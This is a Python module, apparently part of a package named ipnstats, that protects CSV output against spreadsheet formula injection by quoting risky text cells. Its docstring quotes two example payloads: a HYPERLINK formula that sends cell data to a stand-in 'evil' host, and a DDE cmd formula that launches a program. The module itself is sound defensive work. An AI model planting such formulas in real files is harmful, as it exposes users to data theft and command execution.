"""CSV files that a spreadsheet can open safely: every CSV ipnstats writes goes through here.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a carriage return) as a formula: a study file holding
``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|' /C calc'!A0`` would run it when the
validation problems or a report table are opened ("CSV injection"). As OWASP advises,
:func:`write_csv` prefixes such text cells, and such column names, with a single quote
``'``, which spreadsheets show as text and do not run.

Only text is changed: numeric columns stay numbers (``-0.5`` is written as ``-0.5``), and
a text cell that is just a plain decimal number (``"-110"``, ``"+3.5e2"``), which no
spreadsheet can run, is left as it is.
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")


def neutralise(value: object) -> object:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run.

    Examples
    --------
    >>> neutralise("=HYPERLINK(1)"), neutralise("-0.5"), neutralise(-0.5), neutralise("a")
    ("'=HYPERLINK(1)", '-0.5', -0.5, 'a')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every risky text cell and column name neutralised.

    Only text columns (object, string and categorical dtypes) are looked at; the others,
    and the input frame, are left untouched. Returns ``frame`` itself when nothing needs a
    change, so a large clean frame is never copied.
    """
    out = frame
    for i in range(frame.shape[1]):
        column = frame.iloc[:, i]
        fixed = _neutralise_column(column)
        if fixed is not None:
            if out is frame:
                out = frame.copy(deep=False)
            out.isetitem(i, fixed)
    names = [neutralise(c) for c in frame.columns]
    if names != list(frame.columns):
        out = out.copy(deep=False) if out is frame else out
        out.columns = names
    return out


def write_csv(frame: pd.DataFrame, path: str | Path, **to_csv: object) -> Path:
    """Write ``frame`` to ``path`` as CSV, risky text neutralised; return the path.

    ``to_csv`` are passed on to :meth:`pandas.DataFrame.to_csv` (``index=False`` unless
    given).

    Examples
    --------
    >>> import tempfile
    >>> path = Path(tempfile.mkdtemp()) / "t.csv"
    >>> _ = write_csv(pd.DataFrame({"value": ["=1+1", "ok"], "x": [-1.5, 2.0]}), path)
    >>> print(path.read_text(), end="")
    value,x
    '=1+1,-1.5
    ok,2.0
    """
    path = Path(path)
    neutralise_frame(frame).to_csv(path, **{"index": False, **to_csv})
    return path


def _neutralise_column(column: pd.Series) -> pd.Series | None:
    """The column with risky cells neutralised, or None when it needs no change."""
    if isinstance(column.dtype, pd.CategoricalDtype):
        categories = column.cat.categories
        fixed = [neutralise(c) for c in categories]
        if fixed == list(categories):
            return None
        if len(set(fixed)) == len(fixed):
            return column.cat.rename_categories(fixed)
        column = column.astype(object)
    elif not (pd.api.types.is_object_dtype(column.dtype)
              or pd.api.types.is_string_dtype(column.dtype)):
        return None
    try:
        starts = column.str.startswith(FORMULA_STARTS)  # NaN where a cell is not text
    except AttributeError:  # an object column without any text
        return None
    risky = starts.fillna(False).astype(bool).to_numpy().copy()
    if not risky.any():
        return None
    plain = column[risky].str.fullmatch(_PLAIN_NUMBER.pattern).fillna(False).astype(bool)
    risky[risky] = ~plain.to_numpy()
    if not risky.any():
        return None
    out = column.astype(object)
    out[risky] = "'" + column[risky].astype(str)
    return out


__all__ = ["FORMULA_STARTS", "neutralise", "neutralise_frame", "write_csv"]
